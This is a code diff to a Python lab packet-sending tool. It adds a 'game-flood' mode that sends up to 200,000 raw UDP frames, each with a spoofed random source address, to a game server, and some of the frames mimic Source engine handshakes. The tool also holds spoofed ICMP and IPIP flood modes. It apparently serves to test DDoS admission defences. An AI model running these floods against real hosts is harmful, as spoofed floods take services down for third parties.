@@ -11,6 +11,11 @@ path off this machine.
 
   flood   N ICMP echoes "from" SOURCE to a service address (issue 12 section 2: a spoofed flood
           in the name of the POP's BGP neighbour)
+  game-flood
+          N UDP datagrams to a game service, each from a different random address of a range
+          (seeded: the same run sends the same sources), every Nth a Source engine getchallenge
+          (handshake-shaped: what admission lets through within the budget under attack), the
+          rest junk (issue 13: the spoofed flood at the game port)
   ipip    N IPIP packets "from" a backend's tunnel address to the POP's tunnel address, each
           carrying a UDP datagram to a victim; --fragment splits each outer packet in two
           (issue 12 section 3: the kernel's ipip device must not reassemble and forward them)
@@ -22,8 +27,11 @@ path off this machine.
 from __future__ import annotations
 
 import argparse
+import ipaddress
 import json
+import random
 import socket
+import struct
 import sys
 import time
 
@@ -68,6 +76,69 @@ def cmd_flood(args) -> dict:
     frame = ether_to(args) / IP(src=args.source, dst=args.target) / ICMP(id=0x4145, seq=1) / (b"x" * 32)
     seconds = send_frames(args.iface, [bytes(frame)], args.count, args.rate)
     return {"sent": args.count, "seconds": round(seconds, 2), "source": args.source, "target": args.target}
+
+
+def ipv4_checksum(header: bytes) -> int:
+    total = sum(struct.unpack("!%dH" % (len(header) // 2), header))
+    while total >> 16:
+        total = (total & 0xFFFF) + (total >> 16)
+    return ~total & 0xFFFF
+
+
+# A2S_GETCHALLENGE 'q' as a Source client sends it (lab/player.py source_getchallenge): 20 bytes.
+GETCHALLENGE = b"\xff\xff\xff\xffq%s0000000000\x00"
+JUNK = b"\x00spoofed flood " + b"x" * 34
+
+
+def game_flood_frames(args) -> tuple[list[bytes], int]:
+    """The flood's frames: scapy builds one frame per payload kind; each frame then gets its own
+    source address and port patched in (the IP checksum recomputed; the UDP checksum left 0, "none"
+    in IPv4), which takes microseconds where building 65,536 scapy packets takes minutes.
+    Sources are distinct (a sample of the range without replacement) when the range has room."""
+    network = ipaddress.ip_network(args.sources)
+    rng = random.Random(args.seed)
+    if args.count <= network.num_addresses:
+        offsets = rng.sample(range(network.num_addresses), args.count)
+    else:
+        offsets = [rng.randrange(network.num_addresses) for dummy in range(args.count)]
+    link = ether_to(args)
+    templates = {}
+    for kind in ("handshake", "junk"):
+        payload = GETCHALLENGE % b"\0\0\0\0" if kind == "handshake" else JUNK
+        templates[kind] = bytes(link / IP(src="0.0.0.0", dst=args.target, ttl=60)
+                                / UDP(sport=1024, dport=args.port, chksum=0) / payload)
+    base = int(network.network_address)
+    frames = []
+    for number, offset in enumerate(offsets):
+        handshake = args.handshake_every and number % args.handshake_every == 0
+        frame = bytearray(templates["handshake" if handshake else "junk"])
+        struct.pack_into("!I", frame, 26, base + offset)               # IP source
+        struct.pack_into("!H", frame, 24, 0)
+        struct.pack_into("!H", frame, 24, ipv4_checksum(bytes(frame[14:34])))
+        struct.pack_into("!H", frame, 34, rng.randrange(1024, 65536))  # UDP source port
+        if handshake:                                                  # the client's nonce
+            frame[47:51] = rng.randbytes(4)
+        frames.append(bytes(frame))
+    return frames, len(set(offsets))
+
+
+def cmd_game_flood(args) -> dict:
+    frames, distinct = game_flood_frames(args)
+    sock = socket.socket(socket.AF_PACKET, socket.SOCK_RAW)
+    sock.bind((args.iface, 0))
+    started = time.monotonic()
+    for number, frame in enumerate(frames):
+        sock.send(frame)
+        # Paced against the start (as send_frames), one frame per step.
+        delay = started + (number + 1) / args.rate - time.monotonic()
+        if delay > 0:
+            time.sleep(delay)
+    seconds = time.monotonic() - started
+    handshakes = sum(1 for number in range(len(frames)) if args.handshake_every and number % args.handshake_every == 0)
+    return {"sent": len(frames), "seconds": round(seconds, 2), "rate": round(len(frames) / seconds),
+            "distinct_sources": distinct, "sources": args.sources, "seed": args.seed,
+            "handshake_shaped": handshakes, "junk": len(frames) - handshakes,
+            "target": "%s:%d" % (args.target, args.port)}
 
 
 def cmd_ipip(args) -> dict:
@@ -121,6 +192,15 @@ def main(argv=None) -> int:
     flood.add_argument("--source", required=True)
     flood.add_argument("--target", required=True)
 
+    game = sender("game-flood", "UDP to a game service from many random sources of a range")
+    game.add_argument("--target", required=True)
+    game.add_argument("--port", type=int, required=True)
+    game.add_argument("--sources", required=True, help="the range the sources are drawn from (give the "
+                      "upstream a blackhole route for it: the game server's replies must die there)")
+    game.add_argument("--seed", type=int, default=13)
+    game.add_argument("--handshake-every", type=int, default=10,
+                      help="every Nth datagram a Source getchallenge, the rest junk (0: junk only)")
+
     ipip = sender("ipip", "IPIP in a backend's name carrying UDP to a victim")
     ipip.add_argument("--outer-source", required=True)
     ipip.add_argument("--outer-dest", required=True)
@@ -145,9 +225,13 @@ def main(argv=None) -> int:
     listen.add_argument("--duration", type=float, required=True)
 
     args = parser.parse_args(argv)
-    if getattr(args, "count", 1) > 20000 or getattr(args, "rate", 1) > 5000:
-        parser.error("--count is at most 20000 and --rate at most 5000: the lab's floods are bounded")
-    result = {"flood": cmd_flood, "ipip": cmd_ipip, "direct": cmd_direct, "listen": cmd_listen}[args.command](args)
+    # The game flood needs more than 65,536 sources (issue 13), each one packet; the others stay small.
+    most_count, most_rate = (200000, 50000) if args.command == "game-flood" else (20000, 5000)
+    if getattr(args, "count", 1) > most_count or getattr(args, "rate", 1) > most_rate:
+        parser.error("--count is at most %d and --rate at most %d for %s: the lab's floods are bounded"
+                     % (most_count, most_rate, args.command))
+    result = {"flood": cmd_flood, "game-flood": cmd_game_flood, "ipip": cmd_ipip, "direct": cmd_direct,
+              "listen": cmd_listen}[args.command](args)
     json.dump(result, sys.stdout)
     print()
     return 0
